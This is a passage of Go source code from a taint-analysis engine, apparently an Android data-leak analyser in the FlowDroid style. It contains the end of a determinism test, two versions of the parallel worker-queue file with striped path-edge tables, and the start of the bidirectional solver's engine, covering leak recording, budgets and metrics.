						w, r.Stats.Propagations, r.Stats.ForwardEdges, r.Stats.BackwardEdges)
				}
				js, err := r.CanonicalJSON()
				if err != nil {
					t.Fatal(err)
				}
				if w == 1 {
					baseJSON, baseStats = js, r.Stats
					continue
				}
				if !bytes.Equal(baseJSON, js) {
					t.Errorf("workers=%d: report differs from workers=1:\n%s\nvs\n%s", w, baseJSON, js)
				}
				if r.Stats.ForwardEdges != baseStats.ForwardEdges || r.Stats.BackwardEdges != baseStats.BackwardEdges {
					t.Errorf("workers=%d: edges fw %d/bw %d, want fw %d/bw %d (novel-insertion counts are schedule-independent)",
						w, r.Stats.ForwardEdges, r.Stats.BackwardEdges, baseStats.ForwardEdges, baseStats.BackwardEdges)
				}
				if r.Stats.PeakAbstractions != baseStats.PeakAbstractions {
					t.Errorf("workers=%d: PeakAbstractions = %d, want %d (distinct interned abstractions are schedule-independent)",
						w, r.Stats.PeakAbstractions, baseStats.PeakAbstractions)
				}
				if r.Stats.AliasQueries != baseStats.AliasQueries || r.Stats.Summaries != baseStats.Summaries {
					t.Errorf("workers=%d: alias queries %d / summaries %d, want %d / %d",
						w, r.Stats.AliasQueries, r.Stats.Summaries, baseStats.AliasQueries, baseStats.Summaries)
				}
			}
		})
	}
}
