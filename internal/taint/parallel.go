package taint

import (
	"context"
	"reflect"
	"sync"

	"flowdroid/internal/ir"
)

// This file holds the concurrency machinery of the bidirectional engine:
// the shared counting-tracked work queue both solvers feed, the striped
// path-edge tables, and the worker pool. The design mirrors
// internal/ifds/parallel.go (the generic Heros-style parallel solver):
// path-edge processing is independent work, the jump tables, incoming
// sets and summaries are shared state, and the exploded-graph closure is
// confluent — every schedule computes the same fact sets, only the
// discovery order differs.

// task is one queued path-edge processing step, tagged with the solver
// direction it belongs to. Forward and backward items share one queue so
// the worker pool never idles while either solver has work.
type task struct {
	backward bool
	item
}

// workQueue is the counting-tracked LIFO queue. pending counts queued
// plus in-flight items; the run is over when pending reaches zero (fixed
// point) or when stop flips the queue into an aborted state
// (cancellation, exhausted budget, leak cap).
type workQueue struct {
	mu      sync.Mutex
	cond    *sync.Cond
	items   []task
	pending int
	done    bool
	status  Status // Completed unless stop() recorded an abort reason
}

func newWorkQueue() *workQueue {
	q := &workQueue{}
	q.cond = sync.NewCond(&q.mu)
	return q
}

// push enqueues a task and wakes one waiting worker.
func (q *workQueue) push(t task) {
	q.mu.Lock()
	q.items = append(q.items, t)
	q.pending++
	q.cond.Signal()
	q.mu.Unlock()
}

// stop aborts the run with the given status and wakes every worker; the
// first recorded reason wins.
func (q *workQueue) stop(st Status) {
	q.mu.Lock()
	if !q.done {
		q.done = true
		q.status = st
	}
	q.cond.Broadcast()
	q.mu.Unlock()
}

// finalStatus reads the status after the run has settled.
func (q *workQueue) finalStatus() Status {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.status
}

// drainSequential processes the queue to exhaustion on the calling
// goroutine — the Workers <= 1 path. It pays only uncontended lock
// overhead and keeps the historical single-threaded behaviour (modulo
// item order, which the confluent closure makes irrelevant).
func (e *engine) drainSequential(ctx context.Context) {
	q := e.q
	steps := 0
	for {
		q.mu.Lock()
		if q.done && q.status != Completed {
			q.mu.Unlock()
			return
		}
		if len(q.items) == 0 {
			q.done = true
			q.mu.Unlock()
			return
		}
		t := q.items[len(q.items)-1]
		q.items = q.items[:len(q.items)-1]
		q.pending--
		q.mu.Unlock()
		steps++
		if steps%ctxCheckEvery == 0 && ctx.Err() != nil {
			q.stop(Cancelled)
			return
		}
		e.processTask(t)
	}
}

// drainParallel runs the worker pool. A watcher goroutine turns context
// expiry into a queue shutdown; the call returns only after every worker
// has terminated, so no goroutine leaks past it.
func (e *engine) drainParallel(ctx context.Context, workers int) {
	q := e.q
	watchDone := make(chan struct{})
	var watchWG sync.WaitGroup
	watchWG.Add(1)
	go func() {
		defer watchWG.Done()
		select {
		case <-ctx.Done():
			q.stop(Cancelled)
		case <-watchDone:
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			e.worker()
		}()
	}
	wg.Wait()
	close(watchDone)
	watchWG.Wait()
}

// worker drains the queue until the run completes or aborts. An aborted
// run (cancellation, budget, leak cap) abandons the remaining queue; a
// completed run exits once the queue is empty and nothing is in flight.
func (e *engine) worker() {
	q := e.q
	for {
		q.mu.Lock()
		for len(q.items) == 0 && !q.done {
			if q.pending == 0 {
				q.done = true
				q.cond.Broadcast()
				break
			}
			q.cond.Wait()
		}
		if q.done && (q.status != Completed || len(q.items) == 0) {
			q.mu.Unlock()
			return
		}
		t := q.items[len(q.items)-1]
		q.items = q.items[:len(q.items)-1]
		q.mu.Unlock()

		e.processTask(t)

		q.mu.Lock()
		q.pending--
		if q.pending == 0 {
			q.done = true
			q.cond.Broadcast()
		}
		q.mu.Unlock()
	}
}

func (e *engine) processTask(t task) {
	if t.backward {
		e.processBackward(t.item)
	} else {
		e.processForward(t.item)
	}
}

// jumpShards is the stripe count of the path-edge tables. Striping by
// statement keeps workers that process different program points off each
// other's locks; 64 stripes make collisions rare at any realistic worker
// count.
const jumpShards = 64

type jumpShard struct {
	mu sync.Mutex
	m  map[ir.Stmt]map[edge]bool
}

// jumpTable is a striped set of path edges ⟨d1⟩ → ⟨n, d2⟩.
type jumpTable struct {
	shards [jumpShards]jumpShard
}

func newJumpTable() *jumpTable {
	t := &jumpTable{}
	for i := range t.shards {
		t.shards[i].m = make(map[ir.Stmt]map[edge]bool)
	}
	return t
}

// insert adds the path edge at n and reports whether it was novel.
func (t *jumpTable) insert(n ir.Stmt, pe edge) bool {
	sh := &t.shards[stmtShard(n)]
	sh.mu.Lock()
	defer sh.mu.Unlock()
	edges := sh.m[n]
	if edges == nil {
		edges = make(map[edge]bool)
		sh.m[n] = edges
	}
	if edges[pe] {
		return false
	}
	edges[pe] = true
	return true
}

// stmtShard hashes a statement's identity onto a stripe. Every ir.Stmt
// implementation is a pointer, so the interface data word is a stable
// identity; the low bits are shifted off because allocations are aligned.
func stmtShard(n ir.Stmt) uintptr {
	return (reflect.ValueOf(n).Pointer() >> 4) % jumpShards
}
