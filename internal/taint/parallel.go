package taint

import (
	"context"
	"fmt"
	"reflect"
	"runtime/debug"
	"sync"
	"sync/atomic"

	"flowdroid/internal/ir"
	"flowdroid/internal/metrics"
)

// This file holds the concurrency machinery of the bidirectional engine:
// the shared counting-tracked work queue both solvers feed, the striped
// path-edge tables, and the worker pool. The design mirrors
// internal/ifds/parallel.go (the generic Heros-style parallel solver):
// path-edge processing is independent work, the jump tables, incoming
// sets and summaries are shared state, and the exploded-graph closure is
// confluent — every schedule computes the same fact sets, only the
// discovery order differs.

// task is one queued path-edge processing step, tagged with the solver
// direction it belongs to. Forward and backward items share one queue so
// the worker pool never idles while either solver has work.
type task struct {
	backward bool
	item
}

// workQueue is the counting-tracked LIFO queue. pending counts queued
// plus in-flight items; the run is over when pending reaches zero (fixed
// point) or when stop flips the queue into an aborted state
// (cancellation, exhausted budget, leak cap).
type workQueue struct {
	mu      sync.Mutex
	cond    *sync.Cond
	items   []task
	pending int
	done    bool
	status  Status // Completed unless stop() recorded an abort reason
	// aborted mirrors "stop() was called" for lock-free reads: the
	// propagation hot path checks it on every insertion so an aborted run
	// stops recording edges and charging budget as soon as the flag is
	// visible, without taking the queue lock.
	aborted atomic.Bool
	// depth, when metrics are enabled, tracks the live queue depth (and
	// with it the high-water mark); nil otherwise — Gauge methods no-op
	// on nil, so the disabled cost is one predictable branch.
	depth *metrics.Gauge
}

func newWorkQueue() *workQueue {
	// Even small apps enqueue thousands of path edges; starting with a
	// real backing array skips the first several append growths.
	q := &workQueue{items: make([]task, 0, 1024)}
	q.cond = sync.NewCond(&q.mu)
	return q
}

// push enqueues a task and wakes one waiting worker.
func (q *workQueue) push(t task) {
	q.mu.Lock()
	q.items = append(q.items, t)
	q.pending++
	q.cond.Signal()
	q.mu.Unlock()
	q.depth.Add(1)
}

// stop aborts the run with the given status and wakes every worker; the
// first recorded reason wins.
func (q *workQueue) stop(st Status) {
	q.mu.Lock()
	if !q.done {
		q.done = true
		q.status = st
	}
	q.aborted.Store(true)
	q.cond.Broadcast()
	q.mu.Unlock()
}

// finalStatus reads the status after the run has settled.
func (q *workQueue) finalStatus() Status {
	q.mu.Lock()
	defer q.mu.Unlock()
	return q.status
}

// drainSequential processes the queue to exhaustion on the calling
// goroutine — the Workers <= 1 path. It pays only uncontended lock
// overhead and keeps the historical single-threaded behaviour (modulo
// item order, which the confluent closure makes irrelevant).
func (e *engine) drainSequential(ctx context.Context) {
	q := e.q
	steps := 0
	if e.rec != nil {
		defer func() {
			e.rec.Counter("taint.worker0.drained", metrics.Schedule).Add(int64(steps))
		}()
	}
	for {
		q.mu.Lock()
		if q.done && q.status != Completed {
			q.mu.Unlock()
			return
		}
		if len(q.items) == 0 {
			q.done = true
			q.mu.Unlock()
			return
		}
		t := q.items[len(q.items)-1]
		q.items = q.items[:len(q.items)-1]
		q.pending--
		q.mu.Unlock()
		q.depth.Add(-1)
		steps++
		if steps%ctxCheckEvery == 0 && ctx.Err() != nil {
			q.stop(Cancelled)
			return
		}
		e.processTask(t)
	}
}

// workerPanic carries a panic captured on a worker goroutine over to the
// drainParallel caller. It preserves the original value and the worker's
// stack so the recovery that eventually catches the re-raise (the
// pipeline's stage guard, the corpus batch isolation, a test harness)
// reports where the solve actually failed, not where it was re-thrown.
type workerPanic struct {
	val   any
	stack []byte
}

func (p *workerPanic) Error() string {
	return fmt.Sprintf("taint solver worker panic: %v\n%s", p.val, p.stack)
}

// drainParallel runs the worker pool. A watcher goroutine turns context
// expiry into a queue shutdown; the call returns only after every worker
// has terminated, so no goroutine leaks past it.
//
// A panic inside a flow function must not crash the process: the
// callers' recovery (pipeline stage guards, per-app batch isolation)
// only covers the goroutine that called Analyze. Each worker therefore
// recovers its own panics, the first one is kept (value plus stack), the
// pool is shut down, and the captured panic is re-raised here — on the
// calling goroutine — after every worker has exited, so the parallel
// path degrades exactly like the sequential one.
func (e *engine) drainParallel(ctx context.Context, workers int) {
	q := e.q
	watchDone := make(chan struct{})
	var watchWG sync.WaitGroup
	watchWG.Add(1)
	go func() {
		defer watchWG.Done()
		select {
		case <-ctx.Done():
			q.stop(Cancelled)
		case <-watchDone:
		}
	}()

	var panicMu sync.Mutex
	var firstPanic *workerPanic
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() {
				if r := recover(); r != nil {
					panicMu.Lock()
					if firstPanic == nil {
						firstPanic = &workerPanic{val: r, stack: debug.Stack()}
					}
					panicMu.Unlock()
					// The panicking worker never decremented pending for
					// its in-flight item, so the queue cannot reach the
					// fixed point; stop() releases the other workers. The
					// status is irrelevant — the re-raise below unwinds
					// run() before it is read.
					q.stop(Cancelled)
				}
			}()
			e.worker(w)
		}()
	}
	wg.Wait()
	close(watchDone)
	watchWG.Wait()
	if firstPanic != nil {
		panic(firstPanic)
	}
}

// worker drains the queue until the run completes or aborts. An aborted
// run (cancellation, budget, leak cap) abandons the remaining queue; a
// completed run exits once the queue is empty and nothing is in flight.
// The per-worker drained count is a scheduling fact (how the pool split
// the work), exported under the schedule section when metrics are on.
func (e *engine) worker(id int) {
	q := e.q
	drained := 0
	if e.rec != nil {
		defer func() {
			e.rec.Counter(fmt.Sprintf("taint.worker%d.drained", id), metrics.Schedule).Add(int64(drained))
		}()
	}
	for {
		q.mu.Lock()
		for len(q.items) == 0 && !q.done {
			if q.pending == 0 {
				q.done = true
				q.cond.Broadcast()
				break
			}
			q.cond.Wait()
		}
		if q.done && (q.status != Completed || len(q.items) == 0) {
			q.mu.Unlock()
			return
		}
		t := q.items[len(q.items)-1]
		q.items = q.items[:len(q.items)-1]
		q.mu.Unlock()
		q.depth.Add(-1)
		drained++

		e.processTask(t)

		q.mu.Lock()
		q.pending--
		if q.pending == 0 {
			q.done = true
			q.cond.Broadcast()
		}
		q.mu.Unlock()
	}
}

func (e *engine) processTask(t task) {
	if t.backward {
		e.processBackward(t.item)
	} else {
		e.processForward(t.item)
	}
}

// jumpShards is the stripe count of the path-edge tables. Striping by
// statement keeps workers that process different program points off each
// other's locks; 64 stripes make collisions rare at any realistic worker
// count.
const jumpShards = 64

type jumpShard struct {
	mu sync.Mutex
	m  map[ir.Stmt]map[edge]bool
}

// jumpTable is a striped set of path edges ⟨d1⟩ → ⟨n, d2⟩.
type jumpTable struct {
	shards [jumpShards]jumpShard
}

func newJumpTable() *jumpTable {
	t := &jumpTable{}
	for i := range t.shards {
		t.shards[i].m = make(map[ir.Stmt]map[edge]bool)
	}
	return t
}

// insert adds the path edge at n and reports whether it was novel.
func (t *jumpTable) insert(n ir.Stmt, pe edge) bool {
	sh := &t.shards[stmtShard(n)]
	sh.mu.Lock()
	defer sh.mu.Unlock()
	edges := sh.m[n]
	if edges == nil {
		// Most statements accumulate a handful of edges; pre-sizing the
		// bucket skips the first grow-and-rehash cycles.
		edges = make(map[edge]bool, 8)
		sh.m[n] = edges
	}
	if edges[pe] {
		return false
	}
	edges[pe] = true
	return true
}

// stmtShard hashes a statement's identity onto a stripe. Every ir.Stmt
// implementation in this package's IR is a pointer, so the interface
// data word is a stable identity; the low bits are shifted off because
// allocations are aligned. A non-pointer implementation is still
// constructible (embedding *ir.StmtBase promotes the interface onto a
// value type), and reflect's Pointer() would panic on it — fall back to
// the statement's body index, which is stable after Finalize. Sharding
// only affects lock distribution, never correctness.
func stmtShard(n ir.Stmt) uintptr {
	if v := reflect.ValueOf(n); v.Kind() == reflect.Pointer {
		return (v.Pointer() >> 4) % jumpShards
	}
	idx := n.Index()
	if idx < 0 {
		idx = -idx
	}
	return uintptr(idx) % jumpShards
}
