package taint

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/metrics"
	"flowdroid/internal/sourcesink"
)

// engine holds the two cooperating IFDS solvers. Both operate on path
// edges ⟨sp, d1⟩ → ⟨n, d2⟩ (d1 is the context fact at the start point of
// n's method); the forward solver implements Algorithm 1 of the paper,
// the backward alias solver Algorithm 2. The handover discipline:
//
//   - Forward, at a heap write that creates a new taint: spawn the
//     backward solver with the *same path edge context* (context
//     injection, Figure 3), the new fact marked inactive with the store
//     as its activation statement.
//   - Backward, at each assignment: inject the computed fact into the
//     forward solver at that statement (the forward transfer functions
//     then derive the downstream aliases).
//   - Backward, at a call: descend into callees and inject the caller
//     context into the forward solver's incoming set, so the forward
//     analysis spawned at the callee's header later returns only into
//     the right callers.
//   - Backward, at a method's first statement: hand the edge to the
//     forward solver and stop — the backward solver never returns into
//     callers itself.
//
// Both directions feed one shared counting-tracked work queue, drained
// either by the calling goroutine (Workers <= 1) or by a pool of workers
// (see parallel.go). All state reachable from a flow function is
// concurrency-safe: the jump tables are striped, incoming/endSum share
// one lock whose critical sections keep the summary-application invariant
// (see registerIncoming), the leak recorder and activation cache are
// locked, the interners synchronize internally, and the counters are
// atomic.
type engine struct {
	icfg *cfg.ICFG
	mgr  *sourcesink.Manager
	conf Config

	in   *interner
	ai   *absInterner
	zero *Abstraction

	fwJump *jumpTable
	bwJump *jumpTable

	// callMu guards incoming and endSum together: the pairing of caller
	// contexts with end summaries must be atomic so no (caller, summary)
	// combination is lost when both sides race (same discipline as the
	// generic parallel solver).
	callMu   sync.Mutex
	incoming map[methodCtx]map[callerCtx]bool
	endSum   map[methodCtx][]exitRec

	leakMu   sync.Mutex
	leaks    []*Leak
	leakSeen map[leakKey]bool

	actMu    sync.RWMutex
	actCache map[actKey]bool

	// sumMu guards the per-context summary-store decision map; the first
	// worker to reach a context looks it up (and installs on a hit) for
	// everyone. nil maps when no summary session is configured. Lock
	// order: sumMu before callMu / leakMu, never the reverse.
	sumMu       sync.Mutex
	sumDecision map[methodCtx]sumDec
	// leakAttr attributes every leak to the method context whose subtree
	// it was found in (before global deduplication — a context's record
	// must carry the leak even when another context reported it first).
	// Guarded by leakMu; nil when no summary session is configured.
	leakAttr map[methodCtx]map[leakKey]*Leak

	// entrySet marks the analysis entry methods (the synthetic lifecycle
	// mains): they drive the seeding, have no callers, and so can never
	// be served from a summary store — the reuse stats exclude them.
	entrySet map[*ir.Method]bool

	// srcRecs interns SourceRecords by (statement, source rule).
	// Abstractions are interned by a key that includes the *SourceRecord
	// pointer (absKey in abstraction.go), so the same conceptual source
	// must always yield the same record: a fresh allocation per
	// flow-function evaluation would make abstraction identity — and with
	// it Stats.PeakAbstractions — depend on how often workers happened to
	// re-evaluate a source, i.e. on the schedule.
	srcMu   sync.Mutex
	srcRecs map[srcKey]*SourceRecord

	stats engineStats

	// aliasHist, when metrics are enabled, times each alias-search spawn;
	// nil otherwise so the disabled path is one pointer check.
	aliasHist *metrics.Histogram
	rec       *metrics.Recorder

	// idxFields interns the pseudo-fields that model constant array
	// indices when ArrayIndexSensitive is on.
	idxMu     sync.Mutex
	idxFields map[int64]*ir.Field
	idxClass  *ir.Class

	// sites memoizes per-call-site static facts (resolved wrapper rules,
	// stub dispatch, compiled carrier transfers); see carrier.go.
	sites sync.Map // ir.Stmt -> *callSite

	q *workQueue
}

// engineStats are the live counters; workers update them with atomic
// increments and run snapshots them into the exported Stats.
type engineStats struct {
	propagations      atomic.Int64
	forwardEdges      atomic.Int64
	backwardEdges     atomic.Int64
	aliasQueries      atomic.Int64
	gatedAliasQueries atomic.Int64
	summaries         atomic.Int64

	// Summary-store outcome counters, one per distinct method context.
	storeHits        atomic.Int64
	storeMisses      atomic.Int64
	storeInvalidated atomic.Int64
	storeCorrupt     atomic.Int64
	storeUncacheable atomic.Int64
}

type edge struct{ d1, d2 *Abstraction }

type item struct {
	n      ir.Stmt
	d1, d2 *Abstraction
}

type methodCtx struct {
	m  *ir.Method
	d1 *Abstraction
}

type callerCtx struct {
	site ir.Stmt
	d1   *Abstraction // the caller's own path-edge context
}

type exitRec struct {
	exit ir.Stmt
	d2   *Abstraction
}

type leakKey struct {
	sink ir.Stmt
	src  *SourceRecord
	ap   *AccessPath
}

type actKey struct {
	site ir.Stmt
	m    *ir.Method
}

// srcKey identifies a conceptual taint source: the statement it fires at
// plus the matched rule (sourcesink.Source is a comparable value type).
type srcKey struct {
	stmt ir.Stmt
	src  sourcesink.Source
}

// sourceRecord interns the record for (n, src); every evaluation of the
// same source returns the same pointer.
func (e *engine) sourceRecord(n ir.Stmt, src sourcesink.Source) *SourceRecord {
	k := srcKey{n, src}
	e.srcMu.Lock()
	defer e.srcMu.Unlock()
	if r, ok := e.srcRecs[k]; ok {
		return r
	}
	r := &SourceRecord{Stmt: n, Source: src}
	e.srcRecs[k] = r
	return r
}

// recordLeak registers a (source, sink, access path) leak once. When the
// MaxLeaks cap is configured, the recorder never stores more than the cap
// and hitting it aborts the run with LeakLimitReached — a truncated
// analysis is always distinguishable from an exhaustive one.
//
// ctx is the method context the leak was found under (the sink
// statement's method plus the path-edge context there); when a summary
// session is attached the leak is attributed to it before global
// deduplication, so the context's persisted record carries every leak
// of its subtree even if another context reported the same leak first.
func (e *engine) recordLeak(ctx methodCtx, n ir.Stmt, snk sourcesink.Sink, d *Abstraction) {
	k := leakKey{n, d.Source, d.AP}
	e.leakMu.Lock()
	if e.leakAttr != nil {
		per := e.leakAttr[ctx]
		if per == nil {
			per = make(map[leakKey]*Leak)
			e.leakAttr[ctx] = per
		}
		if per[k] == nil {
			per[k] = &Leak{Sink: n, SinkSpec: snk, Abstraction: d}
		}
	}
	if e.leakSeen[k] || (e.conf.MaxLeaks > 0 && len(e.leaks) >= e.conf.MaxLeaks) {
		e.leakMu.Unlock()
		return
	}
	e.leakSeen[k] = true
	e.leaks = append(e.leaks, &Leak{Sink: n, SinkSpec: snk, Abstraction: d})
	capped := e.conf.MaxLeaks > 0 && len(e.leaks) >= e.conf.MaxLeaks
	e.leakMu.Unlock()
	if capped {
		e.q.stop(LeakLimitReached)
	}
}

func newEngine(icfg *cfg.ICFG, mgr *sourcesink.Manager, conf Config) *engine {
	if conf.APLength <= 0 {
		conf.APLength = 5
	}
	e := &engine{
		icfg:     icfg,
		mgr:      mgr,
		conf:     conf,
		in:       newInterner(conf.APLength),
		ai:       newAbsInterner(),
		fwJump:   newJumpTable(),
		bwJump:   newJumpTable(),
		incoming: make(map[methodCtx]map[callerCtx]bool),
		endSum:   make(map[methodCtx][]exitRec),
		leakSeen: make(map[leakKey]bool),
		actCache: make(map[actKey]bool),
		srcRecs:  make(map[srcKey]*SourceRecord),
		q:        newWorkQueue(),
	}
	if conf.Summaries != nil {
		e.sumDecision = make(map[methodCtx]sumDec)
		e.leakAttr = make(map[methodCtx]map[leakKey]*Leak)
	}
	e.zero = e.ai.get(nil, true, nil, nil, nil, nil)
	e.idxFields = make(map[int64]*ir.Field)
	e.idxClass = ir.NewClass("$array", "")
	return e
}

// indexField interns the pseudo-field standing for a constant array index.
func (e *engine) indexField(v int64) *ir.Field {
	e.idxMu.Lock()
	defer e.idxMu.Unlock()
	if f, ok := e.idxFields[v]; ok {
		return f
	}
	f, err := e.idxClass.AddField(fmt.Sprintf("idx%d", v), ir.Unknown, false)
	if err != nil {
		// Interned above on first creation; duplicates cannot occur.
		panic(err)
	}
	e.idxFields[v] = f
	return f
}

// ctxCheckEvery is how many worklist items are processed between context
// polls; polling every iteration would dominate the tight loop.
const ctxCheckEvery = 256

func (e *engine) run(ctx context.Context, entries []*ir.Method) *Results {
	workers := e.conf.Workers
	if workers <= 0 {
		workers = 1
	}
	if e.rec = metrics.From(ctx); e.rec != nil {
		e.aliasHist = e.rec.Histogram("taint.alias_query_us")
		e.q.depth = e.rec.Gauge("taint.queue_depth", metrics.Schedule)
	}

	e.entrySet = make(map[*ir.Method]bool, len(entries))
	for _, m := range entries {
		e.entrySet[m] = true
		if sp := m.EntryStmt(); sp != nil {
			e.fwPropagate(e.zero, sp, e.zero)
		}
	}
	// Seed callback-parameter sources (e.g. onLocationChanged) for every
	// reachable method.
	for _, m := range e.icfg.Graph.Reachable() {
		if m.Abstract() {
			continue
		}
		for _, src := range e.mgr.ParamSources(m) {
			rec := e.sourceRecord(m.EntryStmt(), src)
			ap := e.in.local(m.Params[src.Param])
			abs := e.ai.get(ap, true, nil, rec, nil, m.EntryStmt())
			e.fwPropagate(e.zero, m.EntryStmt(), abs)
		}
	}

	switch {
	case ctx.Err() != nil:
		e.q.stop(Cancelled)
	case workers == 1:
		e.drainSequential(ctx)
	default:
		e.drainParallel(ctx, workers)
	}

	stats := Stats{
		ForwardEdges:      int(e.stats.forwardEdges.Load()),
		BackwardEdges:     int(e.stats.backwardEdges.Load()),
		AliasQueries:      int(e.stats.aliasQueries.Load()),
		GatedAliasQueries: int(e.stats.gatedAliasQueries.Load()),
		Propagations:      int(e.stats.propagations.Load()),
		Summaries:         int(e.stats.summaries.Load()),
		PeakAbstractions:  e.ai.size(),
		Workers:           workers,
	}
	if e.conf.Cone != nil {
		stats.ConeMethods = e.conf.Cone.Methods
		stats.SkippedComponents = e.conf.Cone.SkippedComponents
	}
	if e.conf.Summaries != nil {
		st := e.finalizeSummaries(e.q.finalStatus() == Completed)
		stats.Store = &st
	}
	e.exportMetrics(stats)
	return &Results{Leaks: e.leaks, Stats: stats, Status: e.q.finalStatus()}
}

// exportMetrics publishes the run's counters into the recorder. The
// solver-effort counters are novel-insertion (or once-per-novel-item)
// counts, schedule-independent on completed runs, so they go into the
// deterministic section; the worker count and queue peak are scheduling
// facts and stay in the schedule section. Counters accumulate with Add
// so a recorder shared across a corpus sums per-app effort.
func (e *engine) exportMetrics(s Stats) {
	rec := e.rec
	if rec == nil {
		return
	}
	rec.Counter("taint.forward_edges", metrics.Deterministic).Add(int64(s.ForwardEdges))
	rec.Counter("taint.backward_edges", metrics.Deterministic).Add(int64(s.BackwardEdges))
	rec.Counter("taint.propagations", metrics.Deterministic).Add(int64(s.Propagations))
	rec.Counter("taint.alias_queries", metrics.Deterministic).Add(int64(s.AliasQueries))
	rec.Counter("taint.alias_queries_gated", metrics.Deterministic).Add(int64(s.GatedAliasQueries))
	rec.Counter("taint.summaries", metrics.Deterministic).Add(int64(s.Summaries))
	rec.Counter("taint.abstractions", metrics.Deterministic).Add(int64(s.PeakAbstractions))
	rec.Counter("taint.access_paths", metrics.Deterministic).Add(int64(e.in.size()))
	rec.Gauge("taint.workers", metrics.Schedule).Set(int64(s.Workers))
	if e.conf.Cone != nil {
		rec.Gauge("taint.cone_methods", metrics.Deterministic).Set(int64(s.ConeMethods))
		rec.Gauge("taint.skipped_components", metrics.Deterministic).Set(int64(s.SkippedComponents))
	}
	if st := s.Store; st != nil {
		rec.Counter("summary.store.hit", metrics.Deterministic).Add(int64(st.Hits))
		rec.Counter("summary.store.miss", metrics.Deterministic).Add(int64(st.Misses))
		rec.Counter("summary.store.invalidated", metrics.Deterministic).Add(int64(st.Invalidated))
		rec.Counter("summary.store.corrupt", metrics.Deterministic).Add(int64(st.Corrupt))
		rec.Counter("summary.store.methods_explored", metrics.Deterministic).Add(int64(st.MethodsExplored))
		rec.Counter("summary.store.methods_reused", metrics.Deterministic).Add(int64(st.MethodsReused))
		rec.Counter("summary.store.persisted", metrics.Deterministic).Add(int64(st.Persisted))
	}
}

// fwPropagate inserts a forward path edge. Only a novel edge is charged
// against the propagation budget and enqueued; duplicates the jump table
// absorbs are free, exactly like the generic solver's accounting. Once
// the run is aborted (budget, leak cap, cancellation) propagation stops
// recording entirely, so the edge counters and the propagation counter
// stay in lockstep and stop growing; concurrent workers already past the
// abort check can each land at most one final insertion.
func (e *engine) fwPropagate(d1 *Abstraction, n ir.Stmt, d2 *Abstraction) {
	if e.q.aborted.Load() {
		return
	}
	if !e.fwJump.insert(n, edge{d1, d2}) {
		return
	}
	e.stats.forwardEdges.Add(1)
	e.charge(task{backward: false, item: item{n, d1, d2}})
}

// bwPropagate is fwPropagate for the backward alias solver.
func (e *engine) bwPropagate(d1 *Abstraction, n ir.Stmt, d2 *Abstraction) {
	if e.q.aborted.Load() {
		return
	}
	if !e.bwJump.insert(n, edge{d1, d2}) {
		return
	}
	e.stats.backwardEdges.Add(1)
	e.charge(task{backward: true, item: item{n, d1, d2}})
}

// charge counts a novel path-edge insertion against MaxPropagations and
// enqueues it. Crossing the budget aborts the run: the edge stays
// recorded in the jump table but is never processed, and workers abandon
// the remaining queue.
func (e *engine) charge(t task) {
	props := e.stats.propagations.Add(1)
	if e.conf.MaxPropagations > 0 && props >= int64(e.conf.MaxPropagations) {
		e.q.stop(BudgetExhausted)
		return
	}
	e.q.push(t)
}

// ---------------------------------------------------------------- forward

func (e *engine) processForward(it item) {
	switch {
	case e.icfg.IsCall(it.n):
		e.fwCall(it)
	case e.icfg.IsExit(it.n):
		e.fwExit(it)
	default:
		e.fwNormal(it)
	}
}

func (e *engine) fwNormal(it item) {
	d2 := it.d2
	// Flowing over the activation statement turns the alias into a live
	// taint.
	if e.conf.EnableActivation && d2 != e.zero && !d2.Active && d2.Activation == it.n {
		d2 = e.ai.activate(d2, it.n)
	}
	outs, triggers := e.normalFlow(it.n, d2)
	for _, t := range triggers {
		e.spawnAliasSearch(it.n, it.d1, t)
	}
	for _, succ := range e.icfg.SuccsOf(it.n) {
		for _, out := range outs {
			e.fwPropagate(it.d1, succ, out)
		}
	}
}

func (e *engine) fwCall(it item) {
	call := ir.CallOf(it.n)
	// Descend into callees with bodies.
	for _, callee := range e.icfg.CalleesOf(it.n) {
		sp := callee.EntryStmt()
		if sp == nil {
			continue
		}
		// Query-cone pruning: the zero fact exists to discover sources;
		// descending it into a call tree with no potential sources, no
		// queried sinks and no static writes cannot change the report.
		// Taint facts (d2 != zero) always descend — they may pass through
		// an irrelevant callee and return toward a queried sink.
		if e.conf.Cone != nil && it.d2 == e.zero && !e.conf.Cone.Relevant(callee) {
			continue
		}
		for _, d3 := range e.callFlow(call, callee, it.d2) {
			// Summary store: a context installed from the store has its
			// complete end summary and subtree leaks replayed; seeding the
			// subtree again would only recompute them. Callers still
			// register — returns flow through the installed summaries.
			installed := e.summaryFor(callee, d3)
			e.registerIncoming(callee, d3, it.n, it.d1)
			if !installed {
				e.fwPropagate(d3, sp, d3)
			}
		}
	}
	// Call-to-return on the caller's side: sources, sinks, shortcut
	// rules, native defaults, result kill.
	outs := e.callToReturn(it.n, call, it.d1, it.d2)
	for _, retSite := range e.icfg.SuccsOf(it.n) {
		for _, out := range outs {
			e.fwPropagate(it.d1, retSite, out)
		}
	}
}

// registerIncoming records a caller context for (callee, entry fact) and
// applies any summaries already computed for that context. The backward
// solver uses the same mechanism to inject contexts.
//
// The critical section covers both the incoming insertion and the summary
// snapshot so that no (caller, summary) pair is lost: whichever of
// registerIncoming and fwExit enters the lock second observes the other's
// write. Duplicate applications are harmless — propagate deduplicates.
func (e *engine) registerIncoming(callee *ir.Method, d3 *Abstraction, site ir.Stmt, callerD1 *Abstraction) {
	key := methodCtx{callee, d3}
	cc := callerCtx{site, callerD1}
	e.callMu.Lock()
	inc := e.incoming[key]
	if inc == nil {
		inc = make(map[callerCtx]bool)
		e.incoming[key] = inc
	}
	if inc[cc] {
		e.callMu.Unlock()
		return
	}
	inc[cc] = true
	sums := append([]exitRec(nil), e.endSum[key]...)
	e.callMu.Unlock()
	for _, ep := range sums {
		e.applyReturn(cc, callee, ep)
	}
}

func (e *engine) fwExit(it item) {
	m := it.n.Method()
	key := methodCtx{m, it.d1}
	ep := exitRec{it.n, it.d2}
	e.callMu.Lock()
	e.endSum[key] = append(e.endSum[key], ep)
	callers := make([]callerCtx, 0, len(e.incoming[key]))
	for cc := range e.incoming[key] {
		callers = append(callers, cc)
	}
	e.callMu.Unlock()
	e.stats.summaries.Add(1)
